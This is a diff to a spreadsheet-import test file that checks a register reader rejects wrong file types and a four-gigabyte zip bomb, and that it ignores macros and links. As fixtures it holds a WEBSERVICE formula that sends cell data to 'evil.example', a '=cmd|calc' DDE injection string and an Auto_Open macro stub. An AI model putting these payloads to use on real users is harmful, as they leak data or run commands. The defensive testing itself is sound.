@@ -1,6 +1,7 @@
 // @vitest-environment node
 import ExcelJS from 'exceljs'
 import { describe, expect, it } from 'vitest'
+import { packedZeros, rawWorkbookOf, zipOf } from '../../../tests/support/zipOf.ts'
 import { readFile } from './readFile.ts'
 
 const bytesOf = (text: string): ArrayBuffer => new TextEncoder().encode(text).buffer as ArrayBuffer
@@ -10,6 +11,17 @@ async function workbookOf(fill: (workbook: ExcelJS.Workbook) => void): Promise<A
   fill(workbook)
   return new Uint8Array(await workbook.xlsx.writeBuffer()).buffer as ArrayBuffer
 }
+
+/** A word processor's file. */
+const documentFile = zipOf([
+  { name: '[Content_Types].xml', content: Buffer.from('<Types/>') },
+  { name: 'word/document.xml', content: Buffer.from('<document/>') },
+])
+
+/** Some megabytes that unpack to gigabytes, and say that they are a few bytes. */
+const bomb = zipOf([
+  { name: 'xl/worksheets/sheet1.xml', content: Buffer.from('<row/>'), packed: packedZeros(4 * 2 ** 30) },
+])
 
 describe('the file of a register (rule import.reading)', () => {
   it('is a workbook, of which every sheet with content is read as texts', async () => {
@@ -93,9 +105,57 @@ describe('the file of a register (rule import.reading)', () => {
   it.each([
     ['a picture', bytesOf('\x89PNG\0\0'), 'notRegister'],
     ['a broken archive', bytesOf('PK and nothing more'), 'notRegister'],
+    ['a PDF', bytesOf('%PDF-1.7\nRisk,Cause'), 'notRegister'],
+    ['a page of the web', bytesOf('<html><table><tr><td>Risk'), 'notRegister'],
+    [
+      'a workbook of an old Excel, or one with a password',
+      Uint8Array.of(0xd0, 0xcf, 0x11, 0xe0, 0xa1).buffer,
+      'oldExcel',
+    ],
+    ['a document, which is an archive too', documentFile, 'notRegister'],
+    ['a workbook that unpacks to four gigabytes', bomb, 'tooMuch'],
     ['nothing', bytesOf(''), 'empty'],
-    ['a file of 11 MB', new ArrayBuffer(11 * 2 ** 20), 'tooLarge'],
+    ['a file of 100 MB', new ArrayBuffer(100 * 2 ** 20), 'tooLarge'],
   ])('is not %s', async (_, bytes, problem) => {
     await expect(readFile({ name: 'x', bytes })).rejects.toMatchObject({ problem })
+  })
+
+  it('is read as what it is, whatever it is called', async () => {
+    const bytes = await workbookOf((workbook) => workbook.addWorksheet('Register').addRow(['Risk', 'Cause']))
+    for (const name of ['a.csv', 'a.xlsm', 'a']) {
+      expect(await readFile({ name, bytes })).toEqual([{ name: 'Register', rows: [['Risk', 'Cause']] }])
+    }
+    expect(await readFile({ name: 'a.xlsx', bytes: bytesOf('Risk,Cause') })).toMatchObject([
+      { rows: [['Risk', 'Cause']] },
+    ])
+  })
+
+  it('is read by the values of its formulas, whatever they ask for', async () => {
+    const bytes = await workbookOf((workbook) => {
+      workbook.addWorksheet('Register').addRows([
+        ['Risk', 'Cause', 'Likelihood'],
+        [
+          { formula: 'WEBSERVICE("https://evil.example/?"&B2)', result: 'Pump fails' },
+          { formula: '[1]Other!A1', result: { error: '#REF!' } },
+          { formula: '2+2', result: 4 },
+        ],
+        ['=cmd|calc', { formula: 'B2' }, { sharedFormula: 'C2', result: 5 }],
+      ])
+    })
+    const [sheet] = await readFile({ name: 'a.xlsx', bytes })
+    expect(sheet?.rows.slice(1)).toEqual([
+      ['Pump fails', '', '4'],
+      ['=cmd|calc', '', '5'],
+    ])
+  })
+
+  it('is read without the macros, links and pictures in it', async () => {
+    const bytes = rawWorkbookOf([['Risk', 'Cause']], '<drawing r:id="rId9"/><legacyDrawing r:id="rId8"/>', {
+      'xl/vbaProject.bin': 'Sub Auto_Open()',
+      'xl/externalLinks/externalLink1.xml': '<externalLink><externalBook/></externalLink>',
+      'xl/connections.xml': '<connections/>',
+      'xl/media/image1.png': 'PNG',
+    })
+    expect(await readFile({ name: 'a.xlsm', bytes })).toEqual([{ name: 'A', rows: [['Risk', 'Cause']] }])
   })
 })
